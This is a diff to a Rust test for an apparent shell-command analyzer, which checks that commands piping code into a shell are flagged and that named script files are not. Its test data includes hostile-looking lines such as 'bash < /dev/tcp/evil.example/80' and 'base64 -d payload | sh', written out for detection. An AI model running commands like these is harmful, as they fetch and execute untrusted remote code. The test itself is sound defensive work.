@@ -118,8 +118,9 @@ fn code_piped_into_a_shell_is_analysed() {
     for cmd in [
         "some_prog | bash",
         "base64 -d payload | sh",
-        "cat script.sh | bash",
-        "bash < script.sh",
+        "cat - | bash",
+        "bash < /dev/tcp/evil.example/80",
+        "bash < \"$F\"",
         "bash <(echo x)",
         "source <(some_prog)",
         ". /dev/stdin",
@@ -134,6 +135,15 @@ fn code_piped_into_a_shell_is_analysed() {
     ));
     assert!(analyze("echo hi | grep h | wc -l").indeterminate.is_none());
     assert!(analyze("bash < /dev/null").indeterminate.is_none());
+    // A named script file runs as `bash script.sh` would (the file is not read here).
+    for cmd in [
+        "bash < script.sh",
+        "cat script.sh | bash",
+        "python3 < tool.py",
+        "source /dev/stdin < env.sh",
+    ] {
+        assert!(analyze(cmd).indeterminate.is_none(), "{cmd}");
+    }
     assert!(rules("echo 'ls -la' | bash").is_empty());
 }
 
